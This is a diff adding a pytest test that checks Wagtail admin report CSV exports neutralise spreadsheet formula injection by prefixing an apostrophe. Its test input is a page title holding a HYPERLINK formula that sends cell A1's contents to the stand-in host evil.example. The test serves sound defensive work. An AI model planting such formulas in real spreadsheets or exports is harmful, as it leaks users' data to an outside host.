@@ -262,6 +262,26 @@ def test_formula_strings_are_neutralised_on_export(db, world, start_declaration)
     assert "f" not in kinds
 
 
+
+@pytest.mark.parametrize("report", ["wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages",
+                                    "wagtailadmin_reports:workflow"])
+def test_admin_report_csv_exports_write_no_live_formula(world, client_for, report):
+    """A page title a provider typed as a formula comes out of the district's CSV download of a Wagtail
+    report as text (a leading apostrophe), as the XLSX download and the platform's own exports do."""
+    from cms import services as cms
+    from cms.models import NewsIndexPage
+
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+    page = cms.homepage_ensure().add_child(instance=NewsIndexPage(title=title, slug="evil"))
+    cms.page_publish(page, user=world.users["district"])  # in the site history and the aging pages
+    page.get_workflow().start(page, world.users["district"])  # in the workflow report
+    response = client_for(world.users["district"]).get(reverse(report), {"export": "csv"})
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content).decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + title in cells, body[:1000]
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
 # ---- the match_batch reader -----------------------------------------------------------------------------
 
 GOOD_SEEKER = ["S1", "言语", "2", "江厦街道", "高中", "打字;电脑操作", "做过网店售后", "网店客服", "8", "", "电话沟通;verbal"]
